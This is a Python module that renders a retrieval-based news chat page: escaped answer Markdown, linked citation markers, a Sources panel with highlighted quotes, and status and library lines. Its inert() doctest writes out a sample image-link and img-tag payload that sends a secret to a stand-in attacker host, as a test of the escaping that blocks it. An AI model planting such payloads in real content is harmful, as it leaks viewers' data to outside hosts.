"""Pure rendering for the chat page: an Answer as chat Markdown, its citations as the
Sources panel's HTML (the quoted span highlighted at its exact offsets), the status line.

No gradio here, no I/O: the caller passes the source files' text, so every function is
unit-testable on plain strings.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection, Mapping

from rag.types import Answer, Citation

# Characters of article text shown on each side of a quote, at most.
CONTEXT_CHARS = 320
ELLIPSIS = "…"
REFUSAL = "The articles don't say."
MARKER = re.compile(r"\[(\d+)\]")
# Markers as a model writes them, finished or not: [1], [1, 2], [^1], (1), 【1】, "[1, 2" at the end.
_RAW_MARKER = re.compile(r"\s*(?:\[\^?\d[\d,;\s–-]*(?:\]|$)|【\d+】|\(\d{1,2}(?:,\s*\d{1,2})*\))")
_IMAGE = re.compile(r"!(?=\[)")  # Markdown image syntax: ![alt](url) and ![alt][ref]
# A marker as link_markers() writes it. Answer text is escaped before markers are linked,
# so this exact markup can only come from us: unlinking it never touches the answer's text.
LINKED_MARKER = re.compile(r'<a class="nq-cite" href="#nq-source-[\d-]+"[^>]*>(\[\d+\])</a>')


def inert(text: str) -> str:
    """Text for a Markdown chat bubble that makes the viewer's browser fetch nothing: HTML
    escaped, and each image's "![" written "!\\[", so that it shows as text. (A remote
    image in an article, a reply or a question would be fetched by every viewer, with
    whatever its address carries: an exfiltration channel.)

    >>> print(inert('![x](http://evil.example/?q=secret) <img src="http://evil.example">'))
    !\\[x](http://evil.example/?q=secret) &lt;img src="http://evil.example"&gt;
    """
    return _IMAGE.sub(r"!\\", html.escape(text, quote=False))


def user_markdown(question: str) -> str:
    """The chat bubble for the user's question: shown as typed, loading nothing."""
    return inert(question)


def answer_markdown(answer: Answer, turn: int | None = None, question: str | None = None
                    ) -> str:
    """The chat bubble for an answer: its text (inert: HTML escaped, Markdown kept but no
    image, each [n] with a source linked to it), marked as not-in-the-articles when
    refused, and a warning for unsupported sentences. With `turn` (its place in the
    conversation), markers link to that turn's entries, and the bubble carries its own
    sources, so that every answer keeps them (the page shows them in the bubble on a
    narrow screen, and the copy button copies them).

    >>> answer_markdown(Answer(text="Two troops died [1]."))
    'Two troops died [1].'
    """
    text = inert(answer.text.strip())
    text = link_markers(text, {citation.marker for citation in answer.citations}, turn)
    parts = [_refusal_markdown(text) if answer.refused else text]
    parts += [f"*{inert(note)}*" for note in answer.notes]
    if answer.unsupported:
        quoted = "; ".join(f"“{inert(s)}”" for s in answer.unsupported)
        parts.append(f"> **Check before relying on it**, not found in the cited passages: {quoted}")
    if turn is not None and answer.citations:
        parts.append(bubble_sources_html(answer, turn, question))
    return "\n\n".join(parts)


def bubble_sources_html(answer: Answer, turn: int, question: str | None = None) -> str:
    """An answer's sources inside its bubble, foldable: number, title, date, file, quote."""
    items = []
    for citation in sorted(answer.citations, key=lambda c: c.marker):
        meta = " · ".join(_escape(part) for part in (citation.title, citation.outlet,
                                                      citation.date_label, citation.source)
                          if part)
        items.append(f'<li id="{bubble_anchor(citation.marker, turn)}" '
                     f'value="{citation.marker}"><span class="nq-meta">{meta}</span><br>'
                     f"<mark>{_one_line(citation.quote)}</mark></li>")
    label = "Closest passages" if answer.refused else f"Sources ({len(items)})"
    searched = searched_html(answer, question)
    return (f'<details class="nq-bubble-sources" open><summary>{label}</summary>{searched}'
            f'<ol>{"".join(items)}</ol></details>')


def _one_line(text: str) -> str:
    """Escaped text on one line: inside the bubble's Markdown, a blank line would end the
    HTML block and let the rest be read as Markdown."""
    return " ".join(_escape(text).split())


def source_anchor(marker: int, turn: int | None = None) -> str:
    """The id of marker `marker`'s entry in the Sources panel (of answer `turn`)."""
    return f"nq-source-{marker}" if turn is None else f"nq-source-{turn}-{marker}"


def bubble_anchor(marker: int, turn: int) -> str:
    """The id of the entry in the answer's own bubble (the page's script goes there when
    the panel is hidden: the same id with "nq-b-" for "nq-source-")."""
    return f"nq-b-{turn}-{marker}"


def link_markers(escaped_text: str, markers: Collection[int], turn: int | None = None) -> str:
    """Each [n] in already-escaped text that has a source becomes a link to its entry in
    the Sources panel (the Chatbot's sanitizer keeps <a> with class, href and title);
    a marker without a source stays plain text.

    >>> link_markers("Died [1]. Fled [7].", {1})
    'Died <a class="nq-cite" href="#nq-source-1" title="Show source 1">[1]</a>. Fled [7].'
    """
    def link(match: re.Match) -> str:
        marker = int(match.group(1))
        if marker not in markers:
            return match.group(0)
        return (f'<a class="nq-cite" href="#{source_anchor(marker, turn)}" '
                f'title="Show source {marker}">[{marker}]</a>')

    return MARKER.sub(link, escaped_text)


def _refusal_markdown(text: str) -> str:
    # Say it plainly, once, whatever the backend's own wording.
    lead = REFUSAL.rstrip(".")
    rest = text[len(lead):].lstrip(" .:,") if text.lower().startswith(lead.lower()) else text
    return f"**{REFUSAL}** {rest}".strip()


def streaming_markdown(text: str) -> str:
    """Text still arriving, with a cursor so it reads as unfinished. Its markers are left
    out: the validator may drop or renumber them, and the final answer shows the ones that
    hold, linked to their sources.

    >>> streaming_markdown("It fell in 2024 [3][7]. Then [1, 2")
    'It fell in 2024. Then ▍'
    """
    return inert(_RAW_MARKER.sub("", text)).rstrip() + " ▍"


def error_markdown(error: Exception) -> str:
    """An error as a chat bubble: the project's own message says what to do."""
    return f"**Could not answer:** {inert(str(error))}"


def passage_bounds(text: str, start: int, end: int,
                   context: int = CONTEXT_CHARS) -> tuple[int, int]:
    """The span of `text` to show around the quote text[start:end]: out to the paragraph's
    edges when they are within `context` characters, else cut at a word boundary.

    >>> passage_bounds("Intro.\\nTwo troops died. More.\\nNext", 7, 23, context=100)
    (7, 29)
    """
    lo = text.rfind("\n", max(0, start - context), start)
    lo = lo + 1 if lo != -1 else _word_edge_before(text, start, context)
    hi = text.find("\n", end, end + context)
    hi = hi if hi != -1 else _word_edge_after(text, end, context)
    return lo, hi


def _word_edge_before(text: str, start: int, context: int) -> int:
    limit = max(0, start - context)
    if limit == 0:
        return 0
    space = text.find(" ", limit, start)
    return space + 1 if space != -1 else limit


def _word_edge_after(text: str, end: int, context: int) -> int:
    limit = min(len(text), end + context)
    if limit == len(text):
        return limit
    space = text.rfind(" ", end, limit)
    return space if space != -1 else limit


def highlight_passage(text: str, start: int, end: int, context: int = CONTEXT_CHARS) -> str:
    """HTML of the passage around text[start:end] with exactly that span in <mark>;
    the article text is escaped, so markup inside an article shows as text."""
    lo, hi = passage_bounds(text, start, end, context)
    before = (ELLIPSIS if lo > 0 and text[lo - 1] != "\n" else "") + text[lo:start]
    after = text[end:hi] + (ELLIPSIS if hi < len(text) and text[hi] != "\n" else "")
    return f"{_escape(before)}<mark>{_escape(text[start:end])}</mark>{_escape(after)}"


def _escape(text: str) -> str:
    return html.escape(text, quote=True)


def citation_html(citation: Citation, file_text: str | None, turn: int | None = None) -> str:
    """One Sources entry: number, title, outlet, date, file, and the highlighted passage.

    When the file's text is unknown or no longer matches the offsets (the file changed
    since indexing), only the quote is shown, with a note saying so.
    """
    title = (_escape(citation.title) if citation.title
             else '<span class="nq-untitled">Untitled article</span>')
    meta = " · ".join(
        _escape(part)
        for part in (citation.outlet, citation.date_label, citation.source)
        if part
    )
    return (
        f'<article class="nq-source" id="{source_anchor(citation.marker, turn)}">'
        f'<header><span class="nq-marker">[{citation.marker}]</span> '
        f'<span class="nq-title">{title}</span></header>'
        f'<div class="nq-meta">{meta}</div>'
        f"{_passage_block(citation, file_text)}</article>"
    )


def _passage_block(citation: Citation, file_text: str | None) -> str:
    if file_text is not None and file_text[citation.start : citation.end] == citation.quote:
        passage = highlight_passage(file_text, citation.start, citation.end)
        return f'<blockquote class="nq-passage">{passage}</blockquote>'
    note = ('<div class="nq-note">The file changed since it was indexed; '
            "showing the quote only.</div>")
    quote = f"<mark>{_escape(citation.quote)}</mark>"
    return f'<blockquote class="nq-passage">{quote}</blockquote>{note}'


def sources_section(answer: Answer, file_texts: Mapping[str, str], question: str | None = None,
                    turn: int | None = None) -> str:
    """One answer's part of the Sources panel (of answer `turn` of a conversation)."""
    citations = sorted(answer.citations, key=lambda c: c.marker)
    head = _sources_heading(answer, question, len(citations))
    if not citations:
        body = '<p class="nq-empty">No passage came close to the question.</p>'
    else:
        body = "".join(citation_html(c, file_texts.get(c.source), turn) for c in citations)
    anchor = "" if turn is None else f' id="nq-turn-{turn}"'
    return f'<div class="nq-turn"{anchor}>{head}{body}</div>'


def conversation_sources_html(sections: list[str], pending: str | None = None) -> str:
    """The Sources panel of a conversation: every answer's sources, the newest first (so a
    marker in any earlier answer still finds its entry), after the question pending."""
    parts = ([pending] if pending else []) + list(reversed(sections))
    return _panel("".join(parts)) if parts else empty_sources_html()


def _sources_heading(answer: Answer, question: str | None, count: int) -> str:
    asked = f'<div class="nq-question">“{_escape(question)}”</div>' if question else ""
    if answer.refused:
        label = "Closest passages"
        note = ('<p class="nq-refused">The articles don\'t say. These passages came closest, '
                "but do not answer the question.</p>")
    else:
        label = f"Sources ({count})"
        note = ""
    took = answer.timings.rewrite_ms + answer.timings.retrieval_ms + answer.timings.generation_ms
    timing = f"{answer.backend} · {took:.0f} ms"
    return (f'<h3>{label}</h3>{asked}{searched_html(answer, question)}'
            f'<div class="nq-timing">{_escape(timing)}</div>{note}')


def searched_html(answer: Answer, question: str | None) -> str:
    """The query a follow-up was searched as, when it is not the question as asked.

    >>> searched_html(Answer(text="", query="When did Fidan say it?"), "When did he say it?")
    '<div class="nq-searched">searched: “When did Fidan say it?”</div>'
    """
    if not answer.query or not question or answer.query.strip() == question.strip():
        return ""
    return f'<div class="nq-searched">searched: “{_one_line(answer.query)}”</div>'


def empty_sources_html() -> str:
    """The panel before any question."""
    return _panel(
        "<h3>Sources</h3><p class=\"nq-empty\">Ask a question: the passages each answer "
        "rests on appear here, with the quoted words highlighted.</p>"
    )


def pending_section(question: str) -> str:
    """The panel's part for a question whose answer is being found."""
    return (f'<div class="nq-turn"><h3>Sources</h3><div class="nq-question">'
            f'“{_escape(question)}”</div><p class="nq-empty">Searching the articles…</p></div>')


def failed_section(error: Exception) -> str:
    """The panel's part for a question that got no answer: the message again."""
    return (f'<div class="nq-turn"><h3>Sources</h3><p class="nq-error">No answer: '
            f'{_escape(str(error))}</p></div>')


def _panel(inner: str) -> str:
    return f'<section class="nq-sources">{inner}</section>'


def status_markdown(status: Mapping[str, object]) -> str:
    """The status line: backend, and the corpus size and recency.

    >>> status_markdown({"backend": "extractive", "articles": 6, "chunks": 40,
    ...                  "newest": "2026-01-10"})
    'Backend: **extractive** · 6 articles · 40 chunks · newest article 2026-01-10'
    """
    parts = [
        f"Backend: **{status.get('backend', 'unknown')}**",
        f"{status.get('articles', '?')} articles",
        f"{status.get('chunks', '?')} chunks",
        f"newest article {status.get('newest') or 'undated'}",
    ]
    return " · ".join(parts)


def status_error_markdown(error: Exception) -> str:
    """The status line when the engine cannot report (index missing, store down, ...)."""
    return f"**Not ready:** {inert(str(error))}"


def library_rows(articles: list[Mapping[str, object]]) -> list[list[object]]:
    """The Library table's rows: title, date, outlet, author, file, chunks.

    >>> library_rows([{"title": "Port reopens", "date": "2026-02-02", "outlet": "Reuters",
    ...                "byline": None, "source": "port.txt", "chunks": 2}])
    [['Port reopens', '2026-02-02', 'Reuters', '', 'port.txt', 2]]
    """
    return [[a.get("title") or "(untitled)", a.get("date") or "", a.get("outlet") or "",
             a.get("byline") or "", a["source"], a["chunks"]] for a in articles]


def library_summary(articles: list[Mapping[str, object]]) -> str:
    """One line above the Library table.

    >>> library_summary([{"source": "a.txt", "published": None}, {"source": "a.txt",
    ...                  "published": "2021-06-29"}])
    '**2 articles** in 1 file · 1 undated'
    """
    files = {a["source"] for a in articles}
    undated = sum(1 for a in articles if not a.get("published"))
    line = f"**{plural(len(articles), 'article')}** in {plural(len(files), 'file')}"
    return line + (f" · {undated} undated" if undated else "")


def changes_markdown(changes: list[tuple[str, object]], errors: list[str]) -> str:
    """What the last change to the library did: per file, its chunks added or removed and
    the problems the ingest reported (with reasons); then what could not be done."""
    parts = []
    for source, report in changes:
        counts = (f"{plural(report.chunks_added, 'chunk')} added, {report.chunks_removed} "
                  f"removed, {report.chunks_updated} updated")
        parts.append(f"- **{inert(source)}**: {counts} ({report.seconds:.1f} s)")
        parts += [f"  - skipped {inert(str(p))}" for p in report.skipped]
        parts += [f"  - note: {inert(str(p))}" for p in report.notes]
    parts += [f"- **Not done:** {inert(error)}" for error in errors]
    return "\n".join(parts)


def plural(n: int, noun: str) -> str:
    """`plural(1, "file")` -> "1 file", `plural(2, "file")` -> "2 files"."""
    return f"{n} {noun}{'s' * (n != 1)}"
